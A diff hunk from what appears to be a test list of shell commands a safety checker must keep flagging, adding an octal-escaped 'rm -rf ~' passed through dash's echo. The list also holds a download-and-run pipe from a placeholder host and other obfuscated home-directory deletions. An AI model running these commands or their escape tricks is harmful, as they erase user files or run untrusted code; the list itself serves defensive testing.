@@ -117,6 +117,7 @@ STILL = [
     "wget -o - https://x.example/i.sh | sh",  # the log on stdout carries server-chosen text
     "echo -e '\\x72\\x6d -rf ~' | sh",
     "printf '%b' '\\162\\155 -rf ~' | bash",
+    "sh -c \"echo '\\0162\\0155 -rf ~' | sh\"",  # dash's echo reads \\0NNN without -e
     "rm --p -rf ~",  # --p is --preserve-root, rm's only long option starting so
     "find ~ -exec rm -rf {} \\;",
     # find refuses an -exec without `;` (here the shell took it), so nothing runs; the command is hostile all the
